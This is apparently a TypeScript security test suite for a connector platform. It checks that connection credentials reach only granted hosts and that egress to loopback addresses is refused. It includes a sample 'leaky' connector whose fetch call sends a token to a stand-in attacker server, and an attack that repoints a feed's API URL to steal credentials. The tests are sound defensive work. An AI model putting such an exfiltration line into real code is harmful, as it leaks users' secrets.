import { createServer, type IncomingMessage, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type FakeGitHub, startFakeGitHub } from '../../../../connectors/code-host/src/test/fake-github.js';
import { rss } from '../../../../connectors/rss/src/test/fixtures.js';
import { document, type FeedServer, startFeedServer } from '../../../../connectors/rss/src/test/server.js';
import { startTestServer, type TestServer } from '../../test/harness.js';
import { startTestRunWorkers } from '../../test/runtime.js';
import { parseEgressAllow } from '../egress/policy.js';
import type { RunWorkers } from './worker.js';

/**
 * Where connector runs may connect (DESIGN.md section 10, layer 2): a connection's credentials go
 * only to the hosts they were granted for, whatever a later config or the connector's code says;
 * and the deployment's egress policy refuses internal addresses with one answer per host.
 */

let server: TestServer;
let workers: RunWorkers;
let github: FakeGitHub;
/** A server of the attacker's, on another host name of this machine. */
let attacker: Server;
let attackerUrl: string;
const stolen: IncomingMessage[] = [];
let writeToken: string;

beforeAll(async () => {
  server = await startTestServer({ connectorSourceInstalls: true });
  github = await startFakeGitHub();
  attacker = createServer((request, response) => {
    stolen.push(request);
    response.end('[]');
  }).listen(0, '127.0.0.1');
  await new Promise((resolve) => attacker.once('listening', resolve));
  attackerUrl = `http://localhost:${(attacker.address() as { port: number }).port}`;
  workers = await startTestRunWorkers(server);
  expect(
    (await server.call('POST', '/api/default/connectors', { body: { package: 'code-host' } })).status,
  ).toBe(201);
  const token = await server.call('POST', '/api/default/tokens', { body: { name: 'ci', scopes: ['write'] } });
  writeToken = token.body.secret;
}, 60_000);

afterAll(async () => {
  await workers?.close(1000);
  await github?.close();
  attacker?.close();
});

async function ended(runId: number, token?: string) {
  for (let i = 0; i < 400; i++) {
    const { body } = await server.call('GET', `/api/default/runs/${runId}`, token ? { token } : {});
    if (!['pending', 'running'].includes(body.run.status)) return body.run;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error(`run ${runId} did not end`);
}

describe("a connection's credentials", () => {
  it('go nowhere new when a write token points the feed elsewhere: the run fails and says how to grant it', async () => {
    const config = { repo: github.repo, apiUrl: github.url };
    const connected = await server.call('POST', '/api/default/connections', {
      body: { connectorKey: 'code-host', config, credentials: { accessToken: github.token } },
    });
    expect(connected.status, JSON.stringify(connected.body)).toBe(201);
    const issues = connected.body.feeds.find((f: { feedKey: string }) => f.feedKey === 'issues');
    await server.call('PATCH', `/api/default/feeds/${issues.id}`, { body: { config } });

    // The attack: a plain write token changes the feed's API URL, then asks for a sync.
    const patched = await server.call('PATCH', `/api/default/feeds/${issues.id}`, {
      token: writeToken,
      body: { config: { ...config, apiUrl: attackerUrl } },
    });
    expect(patched.status).toBe(200);
    const sync = await server.call('POST', `/api/default/feeds/${issues.id}/sync`, { token: writeToken });
    const run = await ended(sync.body.run.id, writeToken);
    expect(run.status).toBe('failed');
    expect(run.errorMessage).toMatch(
      /the config points at localhost, where this connection's credentials were not given for .*set the connection's credentials again/,
    );
    expect(stolen).toHaveLength(0);

    // Set again by their owner, the credentials are granted for the new host.
    await server.call('PATCH', `/api/default/connections/${connected.body.connection.id}`, {
      body: { credentials: { accessToken: github.token } },
    });
    const again = await server.call('POST', `/api/default/feeds/${issues.id}/sync`);
    await ended(again.body.run.id);
    expect(stolen.length).toBeGreaterThan(0);
    expect(stolen[0]?.headers.authorization).toBe(`Bearer ${github.token}`);
  }, 90_000);

  it("go nowhere the connector's own code sends them: the child reaches only the granted hosts", async () => {
    const source = `
import { defineConnector } from '@svc/connector-sdk';
export default defineConnector({
  key: 'leaky', name: 'Leaky', version: '1.0.0',
  authSchema: { methods: [{ type: 'env_keys', fields: [{ key: 'token', secret: true }] }] },
  feeds: { items: { key: 'items', name: 'Items', async sync(ctx) {
    await fetch('${attackerUrl}/collect?token=' + ctx.config.token);
    return { events: [], checkpoint: null };
  } } },
});`;
    expect((await server.call('POST', '/api/default/connectors', { body: { source } })).status).toBe(201);
    const connected = await server.call('POST', '/api/default/connections', {
      body: { connectorKey: 'leaky', credentials: { token: 'leaky-secret-token' } },
    });
    const before = stolen.length;
    const sync = await server.call('POST', `/api/default/feeds/${connected.body.feeds[0].id}/sync`);
    const run = await ended(sync.body.run.id);
    expect(run.status).toBe('failed');
    expect(run.errorMessage).toMatch(
      /refused: localhost is not a host this connection's credentials were granted for/,
    );
    expect(stolen.length).toBe(before);
  }, 90_000);
});

describe('the egress policy of connector runs', () => {
  let site: FeedServer;
  let strict: RunWorkers;

  beforeAll(async () => {
    site = await startFeedServer();
    site.route(
      '/feed.xml',
      document(() => rss([{ guid: 'a', title: 'First', date: 'Mon, 23 Nov 2026 10:00:00 GMT' }])),
    );
    // A deployment's policy: no internal address. The other workers stop taking runs first.
    await workers.close(1000);
    strict = await startTestRunWorkers(server, {
      limits: { ...{ timeoutMs: 30_000, memoryMb: 256 }, egress: parseEgressAllow('') },
    });
    expect((await server.call('POST', '/api/default/connectors', { body: { package: 'rss' } })).status).toBe(
      201,
    );
  }, 60_000);

  afterAll(async () => {
    await strict?.close(1000);
    await site?.close();
  });

  it('refuses an rss feed at 127.0.0.1 with one message whatever the port: no port scanner', async () => {
    const closedPort = 4;
    const messages: string[] = [];
    for (const url of [`${site.url}/feed.xml`, `http://127.0.0.1:${closedPort}/feed.xml`]) {
      const connected = await server.call('POST', '/api/default/connections', {
        body: { connectorKey: 'rss' },
      });
      const feedId = connected.body.feeds[0].id;
      await server.call('PATCH', `/api/default/feeds/${feedId}`, { body: { config: { url } } });
      const sync = await server.call('POST', `/api/default/feeds/${feedId}/sync`);
      const run = await ended(sync.body.run.id);
      expect(run.status).toBe('failed');
      messages.push(String(run.errorMessage).replace(String(new URL(url).port), '<port>'));
    }
    expect(messages[0]).toMatch(/refused by the egress policy: 127\.0\.0\.1 is a loopback address/);
    expect(messages[1]).toBe(messages[0]);
    // Refused, not retried: one attempt.
    expect(messages[0]).not.toMatch(/attempts/);
  }, 90_000);
});
